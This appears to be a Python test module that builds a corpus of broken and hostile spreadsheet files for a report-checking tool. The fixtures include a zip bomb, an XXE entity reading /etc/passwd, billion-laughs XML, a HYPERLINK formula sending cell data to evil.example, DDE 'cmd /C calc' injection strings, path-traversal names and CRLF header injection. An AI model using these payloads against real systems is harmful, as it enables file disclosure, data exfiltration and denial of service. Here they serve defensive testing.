"""A corpus of broken and hostile inputs, generated as code (issue 8).

Every case is a builder that writes its file(s) into a folder, and the status, rule and Chinese
message fragment xltools must give for each file it writes. Most files are the reference
agency's filled template (tests/factory.make_workbook) changed in one way: its values, its
sheets through openpyxl, or the XML and ZIP structure byte by byte. Files that only a real
application makes come from LibreOffice headless (.xls, .ods, a re-saved .xlsx, an .xls with an
open password through a UNO script); an Excel-style (ECMA-376 agile) encrypted .xlsx comes
from msoffcrypto-tool. Cases whose tool is missing are skipped, never faked.

Each case gets a distinct agency name, so consolidating the whole corpus groups only the files
that are meant to be the same agency.
"""

from __future__ import annotations

import datetime as dt
import io
import os
import shutil
import struct
import subprocess
import tempfile
import zipfile
import zlib
from dataclasses import dataclass
from pathlib import Path
from typing import Callable

from factory import lo_convert, make_workbook, soffice
from openpyxl import load_workbook

OK, WARNINGS, ERRORS, UNREADABLE, SUPERSEDED = (
    "ok",
    "warnings",
    "errors",
    "unreadable",
    "superseded",
)
SKIPPED = "skipped"  # found in a folder and left out with a note (lock files, non-spreadsheets)


@dataclass(frozen=True)
class Case:
    kind: str
    build: Callable[[Path], list[Path]]  # writes into the folder, returns the files written
    status: str  # of every file, from `check`; SKIPPED for skipped files
    rule: str | None = None  # a finding with this rule must be present
    fragment: str | None = None  # ... whose message (or the skip note) contains this
    needs: tuple[str, ...] = ()  # "soffice", "uno", "msoffcrypto"
    consolidated: tuple[str, ...] | None = (
        None  # sorted statuses in a consolidation, if not all `status`
    )
    isolate_only: bool = False  # may abort a process: never read it outside a worker


def available(need: str) -> bool:
    if need == "soffice":
        return soffice() is not None
    if need == "uno":
        return soffice() is not None and _uno_python() is not None
    if need == "msoffcrypto":
        try:
            import msoffcrypto  # noqa: F401
        except ImportError:
            return False
        return True
    raise ValueError(need)


def agency(kind: str) -> str:
    return f"测试单位（{kind}）"


# --- helpers -----------------------------------------------------------------------------------


def _wb(path: Path, kind: str, **values) -> Path:
    values.setdefault("meta_agency", agency(kind))
    return make_workbook(path, **values)


def _rewrite(
    src: Path,
    dst: Path,
    parts: dict[str, Callable[[bytes], bytes]] | None = None,
    add: dict[str, bytes] | None = None,
    drop: tuple[str, ...] = (),
) -> Path:
    """Copy a ZIP entry by entry, changing some entries' bytes."""
    with zipfile.ZipFile(src) as zi, zipfile.ZipFile(dst, "w", zipfile.ZIP_DEFLATED) as zo:
        for info in zi.infolist():
            if info.filename in drop:
                continue
            data = zi.read(info)
            if parts and info.filename in parts:
                data = parts[info.filename](data)
            zo.writestr(info.filename, data)
        for name, data in (add or {}).items():
            zo.writestr(name, data)
    return dst


def _xml_variant(
    folder: Path, kind: str, parts: dict[str, Callable[[bytes], bytes]], **kw
) -> list[Path]:
    base = _wb(folder / f".base-{kind}.xlsx", kind)
    out = _rewrite(base, folder / f"{kind}.xlsx", parts, **kw)
    base.unlink()
    return [out]


def _edit(folder: Path, kind: str, change: Callable, **values) -> list[Path]:
    """The filled template changed through openpyxl (as a person editing it would)."""
    base = _wb(folder / f".base-{kind}.xlsx", kind, **values)
    wb = load_workbook(base)
    change(wb)
    out = folder / f"{kind}.xlsx"
    wb.save(out)
    base.unlink()
    return [out]


def _values(kind: str, suffix: str = "xlsx", **values) -> Callable[[Path], list[Path]]:
    return lambda folder: [_wb(folder / f"{kind}.{suffix}", kind, **values)]


def _bytes(name: str, data: bytes | Callable[[], bytes]) -> Callable[[Path], list[Path]]:
    def build(folder: Path) -> list[Path]:
        p = folder / name
        p.write_bytes(data() if callable(data) else data)
        return [p]

    return build


def _zip_of(entries: dict[str, bytes]) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as zf:
        for n, d in entries.items():
            zf.writestr(n, d)
    return buf.getvalue()


def _reference_bytes(kind: str) -> bytes:
    with tempfile.TemporaryDirectory() as tmp:
        return _wb(Path(tmp) / "r.xlsx", kind).read_bytes()


# --- container and format ----------------------------------------------------------------------


def _truncated(keep: float) -> Callable[[], bytes]:
    def data() -> bytes:
        full = _reference_bytes("truncated")
        return full[: int(len(full) * keep)]

    return data


def _random_bytes() -> bytes:
    import random

    rnd = random.Random(8)
    return bytes(rnd.randrange(256) for _ in range(5000))


HTML_XLS = (
    "<html><head><meta charset='utf-8'></head><body><table>"
    "<tr><td>机关名称</td><td>某某局</td></tr>"
    "<tr><td>本年新收</td><td>3</td></tr></table></body></html>"
).encode("utf-8")
CSV_XLS = "机关名称,报告年度,本年新收\n某某局,2022,3\n".encode("gb18030")


def _zip_bomb() -> bytes:
    """A 300 MB shared-strings part in a few hundred KB (ratio about 1000:1), sizes declared
    honestly."""
    comp = zlib.compressobj(9, zlib.DEFLATED, -15)
    head = (
        b'<?xml version="1.0"?><sst'
        b' xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" '
        b'count="1" uniqueCount="1"><si><t>'
    )
    chunk = b"A" * (1 << 20)
    data, crc = comp.compress(head), zlib.crc32(head)
    for _ in range(300):
        data += comp.compress(chunk)
        crc = zlib.crc32(chunk, crc)
    data += comp.flush()
    return _raw_zip(
        {"[Content_Types].xml": b"<Types/>", "xl/workbook.xml": b"<workbook/>"},
        ("xl/sharedStrings.xml", data, len(head) + (300 << 20), crc),
    )


def _raw_zip(entries: dict[str, bytes], raw: tuple[str, bytes, int, int] | None = None) -> bytes:
    """A ZIP written by hand, so that one entry can carry pre-compressed data and any declared
    size."""
    out = io.BytesIO()
    central = []

    def add(name: bytes, method: int, data: bytes, size: int, crc: int) -> None:
        offset = out.tell()
        out.write(
            struct.pack(
                "<IHHHHHIIIHH",
                0x04034B50,
                20,
                0,
                method,
                0,
                0x21,
                crc,
                len(data),
                size,
                len(name),
                0,
            )
        )
        out.write(name)
        out.write(data)
        central.append(
            struct.pack(
                "<IHHHHHHIIIHHHHHII",
                0x02014B50,
                20,
                20,
                0,
                method,
                0,
                0x21,
                crc,
                len(data),
                size,
                len(name),
                0,
                0,
                0,
                0,
                0,
                offset,
            )
            + name
        )

    for n, d in entries.items():
        c = zlib.compressobj(6, zlib.DEFLATED, -15)
        add(n.encode(), 8, c.compress(d) + c.flush(), len(d), zlib.crc32(d))
    if raw:
        name, data, size, crc = raw
        add(name.encode(), 8, data, size, crc)
    start = out.tell()
    for c in central:
        out.write(c)
    out.write(
        struct.pack(
            "<IHHHHIIH", 0x06054B50, 0, 0, len(central), len(central), out.tell() - start, start, 0
        )
    )
    return out.getvalue()


def _bad_crc(folder: Path) -> list[Path]:
    """A form sheet whose data does not match the CRC its headers declare (a damaged copy)."""
    with zipfile.ZipFile(io.BytesIO(_reference_bytes("bad-crc"))) as zf:
        entries = {n: zf.read(n) for n in zf.namelist() if n != FORM_SHEET}
        sheet = zf.read(FORM_SHEET)
    comp = zlib.compressobj(9, zlib.DEFLATED, -15)
    p = folder / "bad-crc.xlsx"
    p.write_bytes(
        _raw_zip(
            entries,
            (FORM_SHEET, comp.compress(sheet) + comp.flush(), len(sheet), zlib.crc32(sheet) ^ 1),
        )
    )
    return [p]


def _bad_deflate(folder: Path) -> list[Path]:
    """A form sheet whose compressed data is not a deflate stream at all (sizes and CRC as
    declared)."""
    with zipfile.ZipFile(io.BytesIO(_reference_bytes("bad-deflate"))) as zf:
        entries = {n: zf.read(n) for n in zf.namelist() if n != FORM_SHEET}
        sheet = zf.read(FORM_SHEET)
    p = folder / "bad-deflate.xlsx"
    p.write_bytes(
        _raw_zip(
            entries,
            (FORM_SHEET, bytes([0xFF, 0xFF, 0xFF, 0x00]) * 200, len(sheet), zlib.crc32(sheet)),
        )
    )
    return [p]


def _lying_sizes(folder: Path) -> list[Path]:
    """Headers claim a 60 KB sharedStrings part; it inflates to 20 MB (readers must stop at the
    claim)."""
    comp = zlib.compressobj(9, zlib.DEFLATED, -15)
    body = (
        b'<?xml version="1.0"?><sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'
        b' count="1" uniqueCount="1"><si><t>'
    )
    data = (
        comp.compress(body)
        + b"".join(comp.compress(b"B" * (1 << 20)) for _ in range(20))
        + comp.flush()
    )
    base = _reference_bytes("lying-sizes")
    entries = {}
    with zipfile.ZipFile(io.BytesIO(base)) as zf:
        for n in zf.namelist():
            if n != "xl/sharedStrings.xml":
                entries[n] = zf.read(n)
    p = folder / "lying-sizes.xlsx"
    p.write_bytes(_raw_zip(entries, ("xl/sharedStrings.xml", data, 60_000, 0x12345678)))
    return [p]


def _overlap(folder: Path) -> list[Path]:
    """'Quoted-overlap' (CVE-2024-0450): a second central-directory entry points into the first's
    data."""
    data = bytearray(_reference_bytes("overlap"))
    eocd = data.rfind(b"PK\x05\x06")
    cd_size, cd_off = struct.unpack("<II", data[eocd + 12 : eocd + 20])
    first = data[cd_off : cd_off + 46 + struct.unpack("<H", data[cd_off + 28 : cd_off + 30])[0]]
    twin = bytearray(first)
    name_len = struct.unpack("<H", twin[28:30])[0]
    twin[46 : 46 + name_len] = b"x" * name_len  # another name, the same data
    n = struct.unpack("<H", data[eocd + 10 : eocd + 12])[0] + 1
    new = data[: cd_off + cd_size] + twin + data[cd_off + cd_size : eocd]
    tail = bytearray(data[eocd:])
    tail[8:10] = struct.pack("<H", n)
    tail[10:12] = struct.pack("<H", n)
    tail[12:16] = struct.pack("<I", cd_size + len(twin))
    p = folder / "overlap.xlsx"
    p.write_bytes(bytes(new + tail))
    return [p]


def _many_entries(folder: Path) -> list[Path]:
    return _xml_variant(
        folder, "many-entries", {}, add={f"xl/media/junk{i}.bin": b"" for i in range(2100)}
    )


LAUGHS = (
    b'<?xml version="1.0"?>\n<!DOCTYPE lolz [<!ENTITY lol "lol">'
    + b"".join(
        b'<!ENTITY lol%d "%s">' % (i, (b"&lol%d;" % (i - 1) if i > 1 else b"&lol;") * 10)
        for i in range(1, 10)
    )
    + b"]>\n"
)
XXE = b'<?xml version="1.0"?>\n<!DOCTYPE r [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>\n'


def _with_doctype(doctype: bytes, use: bytes) -> Callable[[bytes], bytes]:
    def change(xml: bytes) -> bytes:
        body = xml.split(b"?>", 1)[1].lstrip()
        body = body.replace(b"<t>", b"<t>" + use, 1)
        return doctype + body

    return change


def _workbook_doctype(doctype: bytes, use: bytes) -> Callable[[bytes], bytes]:
    def change(xml: bytes) -> bytes:
        body = xml.split(b"?>", 1)[1].lstrip()
        return doctype + body.replace(b'<sheet name="', b'<sheet name="' + use, 1)

    return change


def _unique_count(value: bytes, pad: int = 0) -> Callable[[bytes], bytes]:
    def change(xml: bytes) -> bytes:
        head, body = xml.split(b"?>", 1)
        body = body.replace(b'uniqueCount="', b'uniqueCount="' + value + b'" x="', 1)
        return head + b"?>" + (b"<!--" + b"-" * pad + b"-->" if pad else b"") + body

    return change


FORM_SHEET = "xl/worksheets/sheet3.xml"  # 表三
CHECK_SHEET = "xl/worksheets/sheet5.xml"  # 校验 (never needed for the figures)


def _far_cell(ref: bytes, row: bytes) -> Callable[[bytes], bytes]:
    return lambda xml: xml.replace(
        b"</sheetData>", b'<row r="' + row + b'"><c r="' + ref + b'"><v>1</v></c></row></sheetData>'
    )


def _dimension(xml: bytes) -> bytes:
    import re

    return re.sub(rb'<dimension ref="[^"]*"/>', b'<dimension ref="A1:XFD1048576"/>', xml)


def _reference_less_row(xml: bytes) -> bytes:
    return xml.replace(
        b"</sheetData>", b'<row r="1048576">' + b"<c><v>1</v></c>" * 16384 + b"</row></sheetData>"
    )


def _error_formula(xml: bytes) -> bytes:
    """表三!D5 as Excel stores =1/0: a formula whose cached result is #DIV/0!."""
    import re

    return re.sub(
        rb'<c r="D5"( s="\d+")?( t="\w+")?>.*?</c>',
        rb'<c r="D5"\1 t="e"><f>1/0</f><v>#DIV/0!</v></c>',
        xml,
        count=1,
    )


def _libreoffice(kind: str, fmt: str, suffix: str | None = None) -> Callable[[Path], list[Path]]:
    def build(folder: Path) -> list[Path]:
        with tempfile.TemporaryDirectory() as tmp:
            src = _wb(Path(tmp) / f"{kind}.xlsx", kind)
            out = lo_convert(src, Path(tmp) / "out", fmt)
            dst = folder / f"{kind}.{suffix or fmt.split(':')[0]}"
            shutil.copyfile(out, dst)
        return [dst]

    return build


def _msoffcrypto(folder: Path) -> list[Path]:
    from msoffcrypto.format.ooxml import OOXMLFile

    with tempfile.TemporaryDirectory() as tmp:
        src = _wb(Path(tmp) / "plain.xlsx", "encrypted-xlsx")
        dst = folder / "encrypted-xlsx.xlsx"
        with open(src, "rb") as fi, open(dst, "wb") as fo:
            OOXMLFile(fi).encrypt("密码123", fo)
    return [dst]


_UNO_SCRIPT = r"""
import os, shutil, subprocess, sys, tempfile, time, uno
from com.sun.star.beans import PropertyValue
from com.sun.star.connection import NoConnectException

def pv(n, v):
    p = PropertyValue(); p.Name, p.Value = n, v; return p

src, dst, password, soffice = sys.argv[1:5]
profile = tempfile.mkdtemp(prefix="lo-enc-")
pipe = "xltools_enc_%d" % os.getpid()
proc = subprocess.Popen([soffice, "-env:UserInstallation=file://" + profile, "--headless",
                         "--norestore", "--invisible", "--accept=pipe,name=%s;urp;" % pipe],
                        env={**os.environ, "HOME": profile},
                        stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
try:
    local = uno.getComponentContext()
    resolver = local.ServiceManager.createInstanceWithContext(
        "com.sun.star.bridge.UnoUrlResolver", local)
    for _ in range(600):
        try:
            ctx = resolver.resolve("uno:pipe,name=%s;urp;StarOffice.ComponentContext" % pipe)
            break
        except NoConnectException:
            time.sleep(0.1)
    desktop = ctx.ServiceManager.createInstanceWithContext("com.sun.star.frame.Desktop", ctx)
    doc = desktop.loadComponentFromURL(
        uno.systemPathToFileUrl(src), "_blank", 0, (pv("Hidden", True),))
    doc.storeToURL(uno.systemPathToFileUrl(dst),
                   (pv("FilterName", "MS Excel 97"), pv("Password", password)))
    doc.close(True)
    try:
        desktop.terminate()
    except Exception:
        pass
finally:
    try:
        proc.wait(30)
    except subprocess.TimeoutExpired:
        proc.kill()
    shutil.rmtree(profile, ignore_errors=True)
"""


def _uno_python() -> str | None:
    """LibreOffice's Python bridge lives in the system Python (python3-uno), not in ours."""
    for exe in ("/usr/bin/python3", shutil.which("python3") or ""):
        if exe and subprocess.run([exe, "-c", "import uno"], capture_output=True).returncode == 0:
            return exe
    return None


def _lo_encrypted_xls(folder: Path) -> list[Path]:
    """An .xls saved by LibreOffice with an open password (File → Save As → 'Save with
    password')."""
    with tempfile.TemporaryDirectory() as tmp:
        src = _wb(Path(tmp) / "plain.xlsx", "encrypted-xls")
        script = Path(tmp) / "enc.py"
        script.write_text(_UNO_SCRIPT)
        dst = folder / "encrypted-xls.xls"
        subprocess.run(
            [_uno_python(), str(script), str(src), str(dst), "secret", soffice()],
            check=True,
            capture_output=True,
            timeout=180,
            env={**os.environ, "HOME": tmp},
        )
    assert dst.exists()
    return [dst]


def _xls_named_xlsx(folder: Path) -> list[Path]:
    [p] = _libreoffice("xls-named-xlsx", "xls")(folder)
    return [p.rename(p.with_suffix(".xlsx"))]


# --- sheets and layout -------------------------------------------------------------------------


def _rename(wb):
    wb["表三"].title = "Sheet3"


def _hide(wb):
    wb["表二"].sheet_state = "hidden"


def _reorder(wb):
    wb.move_sheet("表四", offset=-3)
    wb.active = 0


def _delete(wb):
    del wb["表四"]


def _insert_row(wb):
    wb["表三"].insert_rows(6)


def _delete_row(wb):
    wb["表三"].delete_rows(6)


def _insert_col(wb):
    wb["表三"].insert_cols(4)


def _delete_col(wb):
    wb["表三"].delete_cols(5)


def _merge_inputs(wb):
    wb["表三"].merge_cells("D5:E5")  # 自然人 and 商业企业 of 本年新收: E5's number is lost


def _unmerge_captions(wb):
    ws = wb["表三"]
    for rng in list(ws.merged_cells.ranges):
        if rng.min_row <= 4:
            ws.unmerge_cells(str(rng))


def _boolean(wb):
    wb["表三"]["D9"].value = True


def _error_value(wb):
    wb["表三"]["D9"].value = "#DIV/0!"
    wb["表三"]["D9"].data_type = "e"


def _date(wb):
    wb["表三"]["D9"].value = dt.datetime(2022, 3, 1)


def _sheet_protection(wb):
    wb["表三"].protection.password = "abc"
    wb["表三"].protection.sheet = True


def _not_a_template(folder: Path) -> list[Path]:
    from openpyxl import Workbook

    wb = Workbook()
    wb.active.title = "Sheet1"
    wb.active["A1"] = "随便什么表格"
    p = folder / "not-a-template.xlsx"
    wb.save(p)
    return [p]


def _form_2019_for_2022(folder: Path) -> list[Path]:
    from factory import zero_values

    return [
        make_workbook(
            folder / "wrong-form.xlsx",
            "2019",
            base=zero_values("2019", meta_agency=agency("wrong-form"), meta_year=2022),
        )
    ]


# --- several files -----------------------------------------------------------------------------


def _same_file_twice(folder: Path) -> list[Path]:
    a = _wb(folder / "same-file-a.xlsx", "same-file")
    b = folder / "same-file-b.xlsx"
    shutil.copyfile(a, b)
    return [a, b]


def _two_files_one_agency(folder: Path) -> list[Path]:
    a = _wb(folder / "two-files-old.xlsx", "two-files", meta_date="2023-01-10")
    b = _wb(folder / "two-files-new.xlsx", "two-files", meta_date="2023-01-20")
    return [a, b]


def _nested(folder: Path) -> list[Path]:
    deep = folder / "一级" / "二级" / "三级"
    deep.mkdir(parents=True)
    return [_wb(deep / "nested.xlsx", "nested")]


def _lock_file(folder: Path) -> list[Path]:
    p = folder / "~$lock.xlsx"
    p.write_bytes(b"\x0bOwner Name" + b"\x00" * 150)
    return [p]


def _not_spreadsheets(folder: Path) -> list[Path]:
    out = []
    for name, data in (
        ("说明.txt", "请报送".encode()),
        ("photo.jpg", b"\xff\xd8\xff\xe0" + b"\x00" * 100),
        ("报表.zip", _zip_of({"a.txt": b"x"})),
    ):
        p = folder / name
        p.write_bytes(data)
        out.append(p)
    return out


def _formula_file_name(folder: Path) -> list[Path]:
    return [_wb(folder / '=HYPERLINK("http;x","点我").xlsx', "formula-file-name")]


def _traversal_file_name(folder: Path) -> list[Path]:
    return [_wb(folder / "..\\..\\..\\evil .. name.xlsx", "traversal-file-name")]


# --- the corpus --------------------------------------------------------------------------------

INJECT = '=HYPERLINK("http://evil.example/?"&A1,"点击")'

CASES: list[Case] = [
    # container and format
    Case("empty", _bytes("empty.xlsx", b""), UNREADABLE, "unreadable", "文件为空"),
    Case(
        "truncated-half",
        _bytes("truncated-half.xlsx", _truncated(0.5)),
        UNREADABLE,
        "unreadable",
        "已损坏",
    ),
    Case(
        "truncated-tail",
        _bytes("truncated-tail.xlsx", _truncated(0.98)),
        UNREADABLE,
        "unreadable",
        "已损坏",
    ),
    Case(
        "random-bytes",
        _bytes("random-bytes.xlsx", _random_bytes),
        UNREADABLE,
        "unreadable",
        "无法识别的文件格式",
    ),
    Case(
        "html-named-xls",
        _bytes("html-named.xls", HTML_XLS),
        UNREADABLE,
        "unreadable",
        "网页（HTML）",
    ),
    Case("csv-named-xls", _bytes("csv-named.xls", CSV_XLS), UNREADABLE, "unreadable", "CSV"),
    Case(
        "pdf-named-xlsx",
        _bytes("pdf-named.xlsx", b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n1 0 obj<<>>endobj\n"),
        UNREADABLE,
        "unreadable",
        "PDF",
    ),
    Case(
        "docx-named-xlsx",
        _bytes("docx-named.xlsx", lambda: _zip_of({"word/document.xml": b"<w:document/>"})),
        UNREADABLE,
        "unreadable",
        "Word",
    ),
    Case(
        "zip-named-xlsx",
        _bytes("zip-named.xlsx", lambda: _zip_of({"报表/a.xlsx": b"x"})),
        UNREADABLE,
        "unreadable",
        "压缩包",
    ),
    Case(
        "xml-damaged",
        lambda f: _xml_variant(f, "xml-damaged", {FORM_SHEET: lambda x: x[: len(x) // 2]}),
        UNREADABLE,
        "unreadable",
        "无法读取",
    ),
    Case("xls-libreoffice", _libreoffice("xls-libreoffice", "xls"), OK, needs=("soffice",)),
    Case("ods-libreoffice", _libreoffice("ods-libreoffice", "ods"), OK, needs=("soffice",)),
    Case(
        "xlsx-resaved-libreoffice",
        _libreoffice("xlsx-resaved-libreoffice", "xlsx"),
        OK,
        needs=("soffice",),
    ),
    Case("xls-named-xlsx", _xls_named_xlsx, OK, needs=("soffice",)),
    Case("xlsx-named-et", _values("xlsx-named-et", "et"), OK),
    Case("encrypted-xlsx", _msoffcrypto, UNREADABLE, "unreadable", "密码", needs=("msoffcrypto",)),
    Case("encrypted-xls", _lo_encrypted_xls, UNREADABLE, "unreadable", "密码", needs=("uno",)),
    # resource exhaustion
    Case("zip-bomb", _bytes("zip-bomb.xlsx", _zip_bomb), UNREADABLE, "unreadable", "压缩炸弹"),
    Case("zip-lying-sizes", _lying_sizes, UNREADABLE, "unreadable", "已损坏"),
    Case(
        "zip-bad-crc",
        _bad_crc,
        UNREADABLE,
        "unreadable",
        "内部部件校验失败：部件 xl/worksheets/sheet3.xml 的内容与其校验值不符",
    ),
    Case(
        "zip-bad-deflate",
        _bad_deflate,
        UNREADABLE,
        "unreadable",
        "内部部件校验失败：有部件的压缩数据无法解开）",
    ),
    Case("zip-overlap", _overlap, UNREADABLE, "unreadable", "重叠"),
    Case("zip-many-entries", _many_entries, UNREADABLE, "unreadable", "部件"),
    Case(
        "billion-laughs-sst",
        lambda f: _xml_variant(
            f, "billion-laughs-sst", {"xl/sharedStrings.xml": _with_doctype(LAUGHS, b"&lol9;")}
        ),
        UNREADABLE,
        "unreadable",
        "无法读取",
    ),
    Case(
        "billion-laughs-workbook",
        lambda f: _xml_variant(
            f, "billion-laughs-workbook", {"xl/workbook.xml": _workbook_doctype(LAUGHS, b"&lol9;")}
        ),
        UNREADABLE,
        "unreadable",
        "无法读取",
    ),
    Case(
        "xxe-sst",
        lambda f: _xml_variant(
            f, "xxe-sst", {"xl/sharedStrings.xml": _with_doctype(XXE, b"&xxe;")}
        ),
        UNREADABLE,
        "unreadable",
        "无法读取",
    ),
    Case(
        "xxe-workbook",
        lambda f: _xml_variant(
            f, "xxe-workbook", {"xl/workbook.xml": _workbook_doctype(XXE, b"&xxe;")}
        ),
        UNREADABLE,
        "unreadable",
        "无法读取",
    ),
    Case(
        "sst-unique-count",
        lambda f: _xml_variant(
            f, "sst-unique-count", {"xl/sharedStrings.xml": _unique_count(b"4000000000")}
        ),
        UNREADABLE,
        "unreadable",
        "共享字符串",
        isolate_only=True,
    ),
    Case(
        "sst-unique-count-late",
        lambda f: _xml_variant(
            f, "sst-unique-count-late", {"xl/sharedStrings.xml": _unique_count(b"4000000000", 5000)}
        ),
        UNREADABLE,
        "unreadable",
        "共享字符串",
        isolate_only=True,
    ),
    Case("max-dimension", lambda f: _xml_variant(f, "max-dimension", {FORM_SHEET: _dimension}), OK),
    Case(
        "cell-xfd1048576",
        lambda f: _xml_variant(
            f, "cell-xfd1048576", {FORM_SHEET: _far_cell(b"XFD1048576", b"1048576")}
        ),
        UNREADABLE,
        "unreadable",
        "远在表格之外",
        isolate_only=True,
    ),
    Case(
        "cell-xfd1048576-unused-sheet",
        lambda f: _xml_variant(
            f, "cell-xfd1048576-unused-sheet", {CHECK_SHEET: _far_cell(b"XFD1048576", b"1048576")}
        ),
        UNREADABLE,
        "unreadable",
        "远在表格之外",
        isolate_only=True,
    ),
    Case(
        "row-of-unreferenced-cells",
        lambda f: _xml_variant(f, "row-of-unreferenced-cells", {FORM_SHEET: _reference_less_row}),
        UNREADABLE,
        "unreadable",
        "远在表格之外",
        isolate_only=True,
    ),
    Case(
        "cell-a1048576",
        lambda f: _xml_variant(
            f, "cell-a1048576", {"xl/worksheets/sheet1.xml": _far_cell(b"A1048576", b"1048576")}
        ),
        OK,
    ),
    # sheets and layout
    Case(
        "sheet-renamed",
        lambda f: _edit(f, "sheet-renamed", _rename),
        ERRORS,
        "form-mismatch",
        "被改名为“Sheet3”",
    ),
    Case("sheet-hidden", lambda f: _edit(f, "sheet-hidden", _hide), OK),
    Case("sheets-reordered", lambda f: _edit(f, "sheets-reordered", _reorder), OK),
    Case(
        "sheet-deleted",
        lambda f: _edit(f, "sheet-deleted", _delete),
        ERRORS,
        "form-mismatch",
        "缺少工作表“表四”",
    ),
    Case("sheet-protected", lambda f: _edit(f, "sheet-protected", _sheet_protection), OK),
    Case(
        "row-inserted",
        lambda f: _edit(f, "row-inserted", _insert_row),
        ERRORS,
        "form-mismatch",
        "插入了行",
    ),
    Case(
        "row-deleted",
        lambda f: _edit(f, "row-deleted", _delete_row),
        ERRORS,
        "form-mismatch",
        "删除",
    ),
    Case(
        "column-inserted",
        lambda f: _edit(f, "column-inserted", _insert_col),
        ERRORS,
        "form-mismatch",
        "插入了列",
    ),
    Case(
        "column-deleted",
        lambda f: _edit(f, "column-deleted", _delete_col),
        ERRORS,
        "form-mismatch",
        "删除",
    ),
    Case(
        "merged-inputs",
        lambda f: _edit(f, "merged-inputs", _merge_inputs),
        ERRORS,
        "value-blank",
        "表三!E5",
    ),
    Case("unmerged-captions", lambda f: _edit(f, "unmerged-captions", _unmerge_captions), OK),
    Case(
        "not-a-template",
        _not_a_template,
        ERRORS,
        "form-mismatch",
        "这不是政府信息公开工作年度报告模板",
    ),
    Case("form-2019-for-2022", _form_2019_for_2022, ERRORS, "form-mismatch", "应使用"),
    # values in count cells
    Case(
        "typed-over-formula-wrong",
        _values("typed-over-formula-wrong", t3_new_total=999),
        ERRORS,
        "t3-row-total",
        "999",
    ),
    Case("typed-over-formula-right", _values("typed-over-formula-right", t3_new_total=2), OK),
    Case(
        "number-as-text",
        _values("number-as-text", t3_new_person="2"),
        WARNINGS,
        "value-coerced",
        "“2”按 2 读取",
    ),
    Case(
        "full-width-digits",
        _values("full-width-digits", t3_new_person="２"),
        WARNINGS,
        "value-coerced",
        "“２”按 2 读取",
    ),
    Case(
        "number-with-unit",
        _values("number-with-unit", t3_new_person="2件"),
        WARNINGS,
        "value-coerced",
        "“2件”按 2 读取",
    ),
    Case(
        "thousands-separator",
        _values("thousands-separator", t3_new_person="1,234", t3_public_person=1232),
        WARNINGS,
        "value-coerced",
        "“1,234”按 1234 读取",
    ),
    Case(
        "negative",
        _values("negative", t3_withheld_secret_person=-1),
        ERRORS,
        "value-negative",
        "表三!D9",
    ),
    Case(
        "fraction",
        _values("fraction", t3_withheld_secret_person=0.5),
        ERRORS,
        "value-not-integer",
        "表三!D9",
    ),
    Case(
        "date-in-count",
        lambda f: _edit(f, "date-in-count", _date),
        ERRORS,
        "value-not-number",
        "日期",
    ),
    Case(
        "boolean-in-count",
        lambda f: _edit(f, "boolean-in-count", _boolean),
        ERRORS,
        "value-not-number",
        "逻辑值",
    ),
    Case(
        "error-value",
        lambda f: _edit(f, "error-value", _error_value),
        ERRORS,
        "value-not-number",
        "#DIV/0!",
    ),
    Case(
        "error-formula",
        lambda f: _xml_variant(f, "error-formula", {FORM_SHEET: _error_formula}),
        ERRORS,
        "value-not-number",
        "#DIV/0!",
    ),
    Case(
        "placeholder",
        _values("placeholder", t3_withheld_secret_person="/"),
        ERRORS,
        "value-blank",
        "占位符",
    ),
    Case(
        "blank",
        _values("blank", t3_withheld_secret_person=None),
        ERRORS,
        "value-blank",
        "单元格为空",
    ),
    Case(
        "amount-as-text",
        _values("amount-as-text", t2_fees_amount="0.5万元"),
        WARNINGS,
        "value-coerced",
        "万元",
    ),
    # hostile text
    Case("long-text", _values("long-text", meta_agency="很长的单位名称" * 6000), OK),
    Case(
        "control-characters",
        _values(
            "control-characters", meta_agency="控制\x01字符\x07单位\x1b", meta_contact="a\x00b"
        ),
        OK,
    ),
    Case("emoji", _values("emoji", meta_agency="表情单位😀🏛️", meta_contact="👩‍💼"), OK),
    Case("agency-equals", _values("agency-equals", meta_agency=INJECT), OK),
    Case("agency-plus", _values("agency-plus", meta_agency="+1+cmd|' /C calc'!A0"), OK),
    Case("agency-minus", _values("agency-minus", meta_agency="-2+3+cmd|' /C calc'!A0"), OK),
    Case("agency-at", _values("agency-at", meta_agency="@SUM(1+1)*cmd|' /C calc'!A0"), OK),
    Case(
        "agency-traversal",
        _values("agency-traversal", meta_agency="../../../../tmp/xltools-evil"),
        OK,
    ),
    Case("agency-backslash", _values("agency-backslash", meta_agency="..\\..\\Windows\\evil"), OK),
    Case(
        "agency-crlf", _values("agency-crlf", meta_agency="换行单位\r\nBcc: victim@example.com"), OK
    ),
    Case(
        "email-crlf",
        _values("email-crlf", meta_email="a@example.com\r\nBcc: victim@example.com"),
        WARNINGS,
        "meta-email",
    ),
    Case("formula-file-name", _formula_file_name, OK),
    Case("traversal-file-name", _traversal_file_name, OK),
    # several files and folders
    Case("same-file-twice", _same_file_twice, OK, consolidated=(OK, SUPERSEDED)),
    Case("two-files-one-agency", _two_files_one_agency, OK, consolidated=(OK, SUPERSEDED)),
    Case("nested-folders", _nested, OK),
    Case("lock-file", _lock_file, SKIPPED, fragment="临时锁定文件"),
    Case("not-spreadsheets", _not_spreadsheets, SKIPPED, fragment="不是表格文件"),
]


def build_corpus(root: Path, cases: list[Case] | None = None) -> dict[str, list[Path]]:
    """Write every available case into root/<kind>/; returns kind -> files written."""
    out: dict[str, list[Path]] = {}
    for case in cases or CASES:
        if not all(available(n) for n in case.needs):
            continue
        folder = root / case.kind
        folder.mkdir(parents=True, exist_ok=True)
        out[case.kind] = case.build(folder)
    return out
